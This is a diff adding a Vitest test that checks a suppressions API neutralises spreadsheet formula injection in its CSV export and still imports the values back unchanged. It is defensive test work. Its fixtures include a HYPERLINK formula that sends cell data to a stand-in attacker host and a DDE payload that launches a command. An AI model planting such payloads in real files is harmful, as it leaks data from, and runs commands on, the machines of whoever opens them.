@@ -1,0 +1,47 @@
+import { describe, expect, it } from 'vitest'
+import { lines, records } from '../../src/domain/csv'
+import { api } from '../helpers'
+
+const json = async (res: Response) => (await res.json()) as Record<string, any>
+const put = (address: string, body: unknown) =>
+  api(`/v1/suppressions/${encodeURIComponent(address)}`, { method: 'PUT', body: JSON.stringify(body) })
+/** Every cell of a CSV text, as a spreadsheet would read it (RFC 4180). */
+async function cellsOf(csv: string): Promise<string[]> {
+  const cells: string[] = []
+  for await (const record of records(lines(new Blob([csv]).stream()))) cells.push(...(record.fields ?? []))
+  return cells
+}
+const exportCsv = async (prefix: string) =>
+  (await api(`/v1/suppressions/export?format=csv&q=${prefix}`)).text()
+
+describe('CSV export against spreadsheet formulas', () => {
+  it('neutralises every cell that starts with = + - @ tab or CR, and import reads the value back unchanged', async () => {
+    const prefix = `formula-${crypto.randomUUID().slice(0, 6)}`
+    const notes = [
+      '=HYPERLINK("http://evil.example/?x="&A1,"open")',
+      "+cmd|' /C calc'!A0",
+      '@SUM(1+1)',
+      '-2+3',
+      '\tx',
+      '\rx',
+    ]
+    for (const [i, note] of notes.entries())
+      expect((await put(`${prefix}.${i}@example.com`, { note })).status).toBe(200)
+    expect((await put(`-${prefix}@example.com`, { note: "'=already quoted" })).status).toBe(200)
+    const csv = (await exportCsv(prefix)) + (await exportCsv(`-${prefix}`)).split('\n').slice(1).join('\n')
+    const cells = await cellsOf(csv)
+    expect(cells.length).toBe(7 * (notes.length + 2))
+    for (const cell of cells) expect(cell).not.toMatch(/^[=+\-@\t\r]/)
+    expect(csv).toContain(`'-${prefix}@example.com`)
+    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""open"")"`)
+    expect(csv).toContain(`''=already quoted`)
+    const back = await json(
+      await api('/v1/suppressions/import?dry_run=true', {
+        method: 'POST',
+        headers: { 'content-type': 'text/csv' },
+        body: csv,
+      })
+    )
+    expect(back).toMatchObject({ valid: notes.length + 1, error_count: 0 })
+  })
+})
